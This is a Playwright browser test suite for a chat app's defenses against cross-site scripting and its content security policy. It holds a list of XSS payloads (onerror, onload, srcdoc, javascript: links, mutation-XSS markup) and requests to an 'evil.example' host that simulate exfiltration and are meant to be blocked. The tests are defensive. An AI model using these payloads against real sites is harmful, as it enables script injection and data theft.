"""Scripts in articles, questions and file names, and what the content security policy stops, in headless Chromium."""

import gc
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from small_models import small_assistant

from index.errors import ArticleError
from index.loading import load_article
from qa.assistant import Assistant
from ui.chat import create_app, launch
from ui.guard import Rules
from ui.login import Login

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed (apt-get install chromium)"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::ResourceWarning"),
]
ARGUMENTS = [
    *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
]
SCRIPT = "<script>window.pwned = 1</script>"
PAYLOADS = [
    SCRIPT,
    "<img src=x onerror='window.pwned = 1'>",
    "\"'><svg onload=window.pwned=1>",
    "</textarea></title></style><iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "${window.pwned = 1}{{window.pwned = 1}}{@html '<img src=x onerror=window.pwned=1>'}`+(window.pwned=1)+`",
    "<a href='javascript:window.pwned=1' id=question>the lamp</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "[lamp](javascript:window.pwned=1) &lt;script&gt;window.pwned=1&lt;/script&gt; \u202e\u2066",
]


def open_article(source: Path | str) -> Assistant:
    text = load_article(source).text if isinstance(source, Path) else source
    if "refuse" in text:
        raise ArticleError(f"Article {source} is refused; {SCRIPT}")
    return small_assistant(text)


@pytest.fixture(scope="module")
def browser() -> Iterator["playwright.Browser"]:
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


def served(tmp_path: Path, rules: Rules | None = None) -> Iterator[str]:
    bundled = tmp_path / f"{PAYLOADS[1].replace('/', '')}.md"
    bundled.write_text("# Bread\n\nThe bread was baked by Ida.", encoding="utf-8")
    app = create_app(
        small_assistant(), open_article=open_article, bundled={bundled.name: bundled, PAYLOADS[4]: bundled}
    )
    yield launch(app, 0, block=False, mcp=False, announce=lambda line: None, rules=rules)
    app.close(verbose=False)
    del app
    gc.collect()


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    yield from served(tmp_path_factory.mktemp("bundled"))


class Visit:
    """A page that keeps all its console complains of."""

    def __init__(self, browser: "playwright.Browser", address: str, **options: object) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 800}, **options)
        self.context.set_default_timeout(20_000)
        self.page = self.context.new_page()
        self.said: list[str] = []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: self.said.append(f"dialog {dialog.message}"))
        self.page.goto(address)
        self.page.wait_for_selector(".article-text .block", state="attached")

    def violations(self) -> list[str]:
        return [text for text in self.said if "Content Security Policy" in text or "dialog" in text]

    def pwned(self) -> object:
        self.page.wait_for_timeout(150)
        return self.page.evaluate("window.pwned ?? null")

    def paste(self, text: str) -> None:
        self.page.click('[data-do="opener"]')
        self.page.fill("#pasted", text)
        self.page.click('[data-do="paste"]')

    def ask(self, question: str, turn: int) -> None:
        self.page.fill("#question", question)
        self.page.keyboard.press("Enter")
        self.page.wait_for_selector(f"#turn-{turn} .actions, #turn-{turn}.failed, #turn-{turn} .error")


@pytest.fixture
def visit(browser: "playwright.Browser", address: str) -> Iterator[Visit]:
    visit = Visit(browser, address)
    yield visit
    visit.context.close()


def test_scripts_stored_in_articles_and_reflected_from_questions_do_not_run(visit: Visit) -> None:
    article = "\n\n".join([f"# {PAYLOADS[0]}{PAYLOADS[4]}", *(f"The lamp was {p} lit in 1986." for p in PAYLOADS)])
    visit.paste(article)
    visit.page.wait_for_selector("dialog:not([open])", state="attached")
    visit.page.wait_for_function("document.querySelector('.article-text').textContent.includes('window.pwned')")
    for turn, payload in enumerate(PAYLOADS, start=1):
        visit.ask(f"When was the lamp {payload} lit?", turn)
        assert "pwned" in (visit.page.locator(f"#turn-{turn}").text_content() or "")
    visit.page.locator(".chip").first.click()
    visit.page.locator(".reply .chip").last.hover()
    assert visit.pwned() is None
    assert (
        visit.page.locator(".talk script, .talk iframe, .talk img, .paper script, .paper iframe, .paper img").count()
        == 0
    )
    assert visit.page.locator("[onerror], [onload], a[href^='javascript']").count() == 0
    assert visit.violations() == [], "nothing even tried to run"


def test_scripts_in_file_names_and_error_messages_do_not_run(visit: Visit, tmp_path: Path) -> None:
    for name, text in (
        ("<img src=x onerror=window.pwned=1>.txt", "refuse"),
        ("<svg onload=window.pwned=1>.txt", "Lamp."),
    ):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        if not visit.page.locator("dialog[open]").count():
            visit.page.click('[data-do="opener"]')
        visit.page.set_input_files('[data-part="file"]', path)
        visit.page.wait_for_timeout(1_500)
        assert visit.pwned() is None
    assert visit.violations() == []


def test_the_policy_stops_what_would_slip_through(visit: Visit) -> None:
    page = visit.page
    for html in PAYLOADS:
        page.evaluate("html => { document.body.insertAdjacentHTML('beforeend', html) }", html)
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'pwned = 1'; document.body.append(s) }"
    )
    assert visit.pwned() is None
    assert visit.violations(), "the policy is in force"
    sent = "url => fetch(url).then(() => 'sent', () => 'stopped')"
    for url in ("http://evil.example/", "https://127.0.0.1:1/", "data:text/plain,x"):
        assert page.evaluate(sent, url) == "stopped"
    picture = """url => new Promise(done => {
        const image = new Image();
        image.onload = () => done("sent");
        image.onerror = () => done("stopped");
        image.src = url;
    })"""
    assert page.evaluate(picture, "http://evil.example/x.png?secret") == "stopped"


def test_the_whole_page_works_under_the_policy_without_a_complaint(visit: Visit) -> None:
    visit.ask("Who broke the lamp?", 1)
    visit.page.click("#turn-1 summary")
    visit.page.click(".menu summary")
    with visit.page.expect_download() as download:
        visit.page.click('[data-save="json"]')
    assert "Who broke the lamp?" in Path(download.value.path()).read_text(encoding="utf-8")
    visit.page.click('[data-do="theme"]')
    assert visit.violations() == []


def test_a_page_with_a_password_works_in_a_browser_that_knows_it(browser: "playwright.Browser", tmp_path: Path) -> None:
    (tmp_path / "password").write_text("correct horse")
    rules = Rules(login=Login.read(f"ada:{tmp_path / 'password'}"))
    for address in served(tmp_path, rules):
        known = Visit(browser, address, http_credentials={"username": "ada", "password": "correct horse"})
        known.ask("Who broke the lamp?", 1)
        known.context.close()
        stranger = browser.new_context(http_credentials={"username": "ada", "password": "wrong"}).new_page()
        assert stranger.goto(address).status == 401
        assert "lamp" not in (stranger.content())
        stranger.context.close()
